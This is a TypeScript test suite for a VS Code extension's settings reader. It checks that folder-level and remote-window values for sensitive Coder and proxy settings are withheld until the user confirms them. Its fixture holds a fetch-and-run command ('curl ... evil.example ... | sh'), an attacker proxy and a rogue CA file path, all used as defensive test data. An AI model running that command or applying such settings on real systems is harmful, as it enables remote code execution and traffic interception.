import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import * as path from 'node:path';
import { FLEET_DEFAULTS } from '../../../../src/diag/fleet/fleet-check';
import {
  configFrom,
  fleetConfigFrom,
  speedtestConfigFrom,
  type SettingGate,
  type SettingsApi,
} from '../../../../src/vscode/settings/config-reader';
import { confirmationKey, type Withheld } from '../../../../src/vscode/settings/setting-trust';
import { REPO_ROOT } from '../../../support/paths';

interface FakeSettings {
  /** `section.key` as the user set it: `inspect().globalValue` (in a remote window, the remote machine's merged in). */
  user?: Record<string, unknown>;
  /** `section.key` as the open folder sets it: only `get` sees it. */
  folder?: Record<string, unknown>;
  remoteName?: string;
  /** Other extensions' manifests, which register the `coder.*` settings' scopes. */
  manifests?: unknown[];
}

/** A fake of VS Code's settings API that records every read: `get` merges the folder over the user. */
function fakeApi(settings: FakeSettings = {}) {
  const gets: { setting: string; fallback: unknown }[] = [];
  const api: SettingsApi = {
    workspace: {
      getConfiguration: (section) => ({
        get: <T>(key: string, fallback: T): T => {
          const setting = `${section}.${key}`;
          gets.push({ setting, fallback });
          return (settings.folder?.[setting] ?? settings.user?.[setting] ?? fallback) as T;
        },
        inspect: <T>(key: string) => ({ globalValue: settings.user?.[`${section}.${key}`] as T | undefined }),
      }),
    },
    env: { remoteName: settings.remoteName },
    extensions: { all: (settings.manifests ?? []).map((packageJSON) => ({ packageJSON })) },
  };
  return { api, gets };
}

/** A gate that allows `confirmed` and records what it was asked about. */
function fakeGate(confirmed: string[] = []): SettingGate & { withheld: Withheld[] } {
  const withheld: Withheld[] = [];
  return {
    withheld,
    isConfirmed: (key) => confirmed.includes(key),
    withhold: (w) => withheld.push(w),
    onDidChange: () => ({ dispose: () => undefined }),
  };
}

/** Every settings reader, as the extension calls them. */
function readAll(api: SettingsApi, gate?: SettingGate, env: NodeJS.ProcessEnv = {}) {
  return { config: configFrom(api, gate, env), speedtest: speedtestConfigFrom(api), fleet: fleetConfigFrom(api) };
}

const contributed = (
  JSON.parse(readFileSync(path.join(REPO_ROOT, 'package.json'), 'utf8')) as {
    contributes: { configuration: { properties: Record<string, { default: unknown }> } };
  }
).contributes.configuration.properties;

/** Settings that can make us run a command or a binary, trust a file or send the token somewhere. */
const SENSITIVE = {
  'coder.headerCommand': 'curl -s https://evil.example/x | sh',
  'coder.globalFlags': ['--url', 'https://evil.example'],
  'coder.binaryDestination': '/tmp/evil-bin',
  'coder.useKeyring': true,
  'coder.tlsCaFile': '/tmp/evil-ca.pem',
  'http.proxy': 'http://evil.example:3128',
};

describe('settings', () => {
  it('are each contributed in package.json, every contributed one is read, with its default there', () => {
    const { api, gets } = fakeApi();
    readAll(api);
    const ours = gets.filter((g) => g.setting.startsWith('wsdoctor.'));
    assert.deepEqual([...new Set(ours.map((g) => g.setting))].sort(), Object.keys(contributed).sort());
    for (const { setting, fallback } of ours) assert.deepEqual(fallback, contributed[setting].default, setting);
  });

  it('give the Workspaces view the fleet check’s defaults, background refresh off', () => {
    assert.deepEqual(fleetConfigFrom(fakeApi().api), { concurrency: FLEET_DEFAULTS.concurrency, refreshMinutes: 0 });
    assert.equal(contributed['wsdoctor.fleet.concurrency'].default, FLEET_DEFAULTS.concurrency);
  });

  it('are clamped to sane ranges', () => {
    const { api } = fakeApi({
      user: {
        'wsdoctor.latency.warnMs': 500,
        'wsdoctor.latency.errorMs': 50,
        'wsdoctor.statusBar.refreshSeconds': 0,
        'wsdoctor.fleet.concurrency': 1000,
        'wsdoctor.fleet.refreshMinutes': -5,
        'wsdoctor.speedtest.streams': 99,
      },
    });
    const { config, fleet, speedtest } = readAll(api);
    assert.equal(config.warnMs, 500);
    assert.equal(config.errorMs, 500, 'never under the warning threshold');
    assert.equal(config.refreshSeconds, 1);
    assert.deepEqual(fleet, { concurrency: 64, refreshMinutes: 0 });
    assert.ok(speedtest.streams <= 16 && speedtest.streams >= 1);
  });
});

describe("the Coder extension's settings and the network settings (coder.*, http.*)", () => {
  it('are read from user settings only: a folder never picks a command, a binary, a CA or a proxy', () => {
    const { api, gets } = fakeApi({ folder: SENSITIVE });
    const { config } = readAll(api, fakeGate());
    assert.deepEqual(config.coder, {
      globalFlags: [],
      headerCommand: undefined,
      useKeyring: false,
      binaryDestination: undefined,
    });
    assert.equal(config.net.headerCommand, undefined);
    assert.equal(config.net.caFiles, undefined);
    assert.equal(config.net.httpsProxy, undefined);
    assert.deepEqual(
      gets.filter((g) => !g.setting.startsWith('wsdoctor.')),
      [],
      'only wsdoctor.* are read with the folder merged in',
    );
  });

  it('are the user’s own values in a local window', () => {
    const { api } = fakeApi({ user: SENSITIVE });
    const { config } = readAll(api, fakeGate());
    assert.equal(config.coder.headerCommand, SENSITIVE['coder.headerCommand']);
    assert.deepEqual(config.coder.globalFlags, SENSITIVE['coder.globalFlags']);
    assert.equal(config.coder.binaryDestination, '/tmp/evil-bin');
    assert.equal(config.coder.useKeyring, true);
    assert.equal(config.net.headerCommand, SENSITIVE['coder.headerCommand']);
    assert.deepEqual(config.net.caFiles, ['/tmp/evil-ca.pem']);
    assert.equal(config.net.httpsProxy, 'http://evil.example:3128');
    assert.equal(config.net.withheld, undefined);
  });
});

describe('a user setting that may hold the remote machine’s value', () => {
  it('is kept back in a remote window, and the gate is told, until the user allows that exact value', () => {
    const gate = fakeGate();
    const { config } = readAll(fakeApi({ user: SENSITIVE, remoteName: 'ssh-remote' }).api, gate);
    assert.deepEqual(config.coder, {
      globalFlags: [],
      headerCommand: undefined,
      useKeyring: true,
      binaryDestination: undefined,
    });
    assert.equal(config.net.headerCommand, undefined);
    assert.equal(config.net.caFiles, undefined);
    assert.equal(config.net.httpsProxy, undefined);
    assert.deepEqual(config.net.withheld?.sort(), [
      'coder.globalFlags',
      'coder.headerCommand',
      'coder.tlsCaFile',
      'http.proxy',
    ]);
    assert.deepEqual([...new Set(gate.withheld.map((w) => w.setting))].sort(), [
      'coder.binaryDestination',
      'coder.globalFlags',
      'coder.headerCommand',
      'coder.tlsCaFile',
      'http.proxy',
    ]);

    const allowed = fakeGate([
      confirmationKey('coder.headerCommand', SENSITIVE['coder.headerCommand']),
      confirmationKey('http.proxy', SENSITIVE['http.proxy']),
    ]);
    const after = configFrom(fakeApi({ user: SENSITIVE, remoteName: 'ssh-remote' }).api, allowed, {});
    assert.equal(after.coder.headerCommand, SENSITIVE['coder.headerCommand']);
    assert.equal(after.net.httpsProxy, SENSITIVE['http.proxy']);
    assert.deepEqual(after.net.withheld?.sort(), ['coder.globalFlags', 'coder.tlsCaFile']);
  });

  it('is kept back when no gate is installed yet', () => {
    const { config } = readAll(fakeApi({ user: SENSITIVE, remoteName: 'ssh-remote' }).api, undefined);
    assert.equal(config.coder.headerCommand, undefined);
    assert.equal(config.net.httpsProxy, undefined);
  });

  it('is used as it is when the extension that registers it makes it application-scoped', () => {
    const manifest = {
      contributes: { configuration: { properties: { 'coder.headerCommand': { scope: 'application' } } } },
    };
    const gate = fakeGate();
    const { config } = readAll(
      fakeApi({ user: SENSITIVE, remoteName: 'ssh-remote', manifests: [{}, manifest] }).api,
      gate,
    );
    assert.equal(config.coder.headerCommand, SENSITIVE['coder.headerCommand']);
    assert.ok(!gate.withheld.some((w) => w.setting === 'coder.headerCommand'));
  });
});
